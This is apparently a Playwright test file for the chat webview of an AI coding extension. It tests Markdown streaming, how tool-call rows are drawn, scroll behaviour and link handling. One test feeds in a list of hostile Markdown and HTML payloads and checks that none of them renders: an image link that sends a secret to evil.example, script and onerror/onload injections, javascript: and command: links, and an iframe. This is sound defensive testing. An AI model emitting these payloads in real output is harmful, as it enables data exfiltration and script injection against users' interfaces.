import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, test } from "node:test";
import type { Browser } from "playwright-core";
import type { Row } from "../../src/rows";
import { launchChromium } from "../support/chromium";
import { ChatPage, message } from "../support/page";
import { HEADER, ROWS } from "../support/scene";

let browser: Browser;
let chat: ChatPage;

before(async () => void (browser = await launchChromium()));
after(() => browser.close());
beforeEach(async () => void (chat = await ChatPage.open(browser)));
afterEach(async () => {
  assert.deepEqual(chat.strangers, [], "the page reached for something");
  assert.deepEqual(chat.complaints, [], "the browser complained");
  await chat.close();
});

const text = (selector: string) => chat.page.locator(selector).first().innerText();

test("thousands of pieces become one text, drawn as Markdown, the end in sight", async () => {
  const source = Array.from({ length: 400 }, (_, n) => `## Part ${n}\n\nSome **bold** text with \`code\`.\n\n\`\`\`py\nx = ${n}\n\`\`\`\n\n`).join("");
  await chat.reset({ header: HEADER, rows: [message("m", "assistant", "", true)] });
  await chat.page.evaluate((whole) => {
    let number = 0;
    for (let at = 0; at < whole.length; at += 7) {
      const data = { type: "changes", epoch: 1, number: ++number, changes: [{ kind: "append", rowId: "m", field: "text", text: whole.slice(at, at + 7) }] };
      window.dispatchEvent(new MessageEvent("message", { data }));
    }
  }, source);
  await chat.drawn();
  assert.equal(await chat.page.locator(".markdown h2").count(), 400);
  assert.equal(await chat.page.locator(".markdown .code").count(), 400);
  assert.equal(await chat.page.locator(".code code").last().textContent(), "x = 399");
  assert.ok(await atEnd());
});

test("drawn piece by piece or at once, the text looks the same", async () => {
  const source = "Intro *one*\n\n1. a\n2. b\n   - c\n\n> quote\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet x;\n```\n\nlast [link](https://a.example) and `code`";
  await chat.reset({ rows: [message("m", "assistant", "", true)] });
  for (const piece of source.match(/[\s\S]{1,3}/g) ?? []) {
    await chat.change({ kind: "append", rowId: "m", field: "text", text: piece });
    await chat.drawn();
  }
  const grown = await chat.page.locator(".markdown").innerHTML();
  await chat.reset({ rows: [message("m", "assistant", source)] });
  assert.equal(grown, await chat.page.locator(".markdown").innerHTML());
});

test("hostile Markdown becomes text: no element that loads or runs anything", async () => {
  const hostile = [
    "![x](https://evil.example/?d=secret)", "<img src=https://evil.example onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>",
    "[a](javascript:alert(1))", "[b](command:workbench.action.quit)", "<iframe src=https://evil.example></iframe>", "![s](data:image/svg+xml;base64,PHN2Zz4=)",
  ].join("\n\n");
  await chat.reset({ rows: [message("m", "assistant", hostile), message("u", "user", hostile), { kind: "thought", rowId: "t", live: false, text: hostile }] });
  await chat.page.locator(".thought summary").click();
  await chat.drawn();
  assert.equal(await chat.page.locator(".rows :is(img, script, iframe, object, embed, link, style, form, video, [style], [onerror], [onload])").count(), 0);
  const targets = await chat.page.locator(".rows a").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  assert.ok(targets.length > 0 && targets.every((target) => target === "#"));
});

test("a link goes to the extension, with the whole address", async () => {
  await chat.reset({ rows: [message("m", "assistant", "[docs](https://a.example/x?y=1)")] });
  await chat.page.locator(".markdown a").click();
  assert.deepEqual(await chat.sent("openLink"), [{ type: "openLink", href: "https://a.example/x?y=1" }]);
});

test("tool calls: what changes something is unfolded, what looks is a line", async () => {
  await chat.reset({ header: HEADER, rows: ROWS });
  const open = await chat.page.locator(".tool").evaluateAll((rows) => rows.map((row) => (row as HTMLDetailsElement).open));
  assert.deepEqual(open, [false, true, true]);
  assert.equal(await text('.tool[data-kind="execute"] .fact'), "exit 0");
  assert.match(await text('.tool[data-kind="execute"] pre'), /^\.+\s+\[100%\]\n6 passed/);
  assert.equal(await chat.page.locator(".line.added").count(), 3);
  assert.equal(await chat.page.locator(".line.removed").count(), 2);
  assert.equal(await chat.page.locator(".problem.fixed").count(), 1);
  await chat.page.locator('.tool[data-kind="read"] > summary').click();
  // what a row holds is drawn once it is unfolded
  await chat.page.locator('.tool[data-kind="read"] pre', { hasText: "import Decimal" }).first().waitFor();
});

test("what the user folded stays folded while it goes on", async () => {
  const running = { ...(ROWS[5] as Row & { kind: "tool_call" }), status: "running" as const, live: true, exitCode: undefined };
  await chat.reset({ rows: [running] });
  await chat.page.locator(".tool > summary").click();
  await chat.change({ kind: "append", rowId: running.rowId, field: "output", text: "more\n" }, { kind: "row", row: ROWS[5] as Row });
  await chat.drawn();
  assert.equal(await chat.page.locator(".tool").evaluate((row) => (row as HTMLDetailsElement).open), false);
});

test("a long output is opened in an editor", async () => {
  const row = { ...(ROWS[5] as Row & { kind: "tool_call" }), output: { blobId: "b7", size: 300_000, head: "first\n" } };
  await chat.reset({ rows: [row] });
  await chat.page.getByRole("button", { name: "Open all of it (293 KB)" }).click();
  assert.deepEqual(await chat.sent("openBlob"), [{ type: "openBlob", blobId: "b7", name: "run_shell" }]);
});

test("the thread follows the end, but not away from what the user reads", async () => {
  const rows = Array.from({ length: 60 }, (_, n) => message(`m${n}`, "assistant", `Message ${n}\n\nwith two paragraphs`));
  await chat.reset({ rows });
  await chat.drawn();
  assert.ok(await atEnd());
  await chat.page.locator(".thread").evaluate((thread) => (thread.scrollTop = 0));
  await chat.drawn();
  await chat.change({ kind: "row", row: message("new", "assistant", "news") });
  await chat.drawn();
  assert.ok(!(await atEnd()));
  await chat.page.getByRole("button", { name: "To the latest" }).click();
  assert.ok(await atEnd());
});

test("a change that does not follow is not guessed at: the whole is asked for", async () => {
  await chat.reset({ rows: [message("m", "assistant", "a", true)] });
  await chat.post({ type: "changes", epoch: 1, number: 2, changes: [{ kind: "append", rowId: "m", field: "text", text: "c" }] });
  await chat.drawn();
  assert.equal((await chat.sent("lost")).length, 1);
  assert.equal(await text(".markdown"), "a");
  await chat.post({ type: "changes", epoch: 0, number: 1, changes: [{ kind: "append", rowId: "m", field: "text", text: "old" }] });
  assert.equal((await chat.sent("lost")).length, 1);
});

test("thinking is folded, and gone where the setting says so", async () => {
  await chat.reset({ rows: ROWS });
  assert.equal(await chat.page.locator(".thought .markdown strong").count(), 0);
  await chat.page.locator(".thought summary").click();
  await chat.drawn();
  assert.equal(await text(".thought strong"), "whole");
  await chat.reset({ rows: ROWS, showThinking: false });
  assert.equal(await chat.page.locator(".thought").count(), 0);
});

test("a failed turn offers to send again", async () => {
  await chat.reset({ rows: [{ kind: "notice", rowId: "n", live: false, level: "error", text: "The key was refused.", retry: true }] });
  await chat.page.getByRole("button", { name: "Send again" }).click();
  assert.equal((await chat.sent("retry")).length, 1);
});

async function atEnd(): Promise<boolean> {
  return chat.page.locator(".thread").evaluate((thread) => thread.scrollHeight - thread.scrollTop - thread.clientHeight < 2);
}
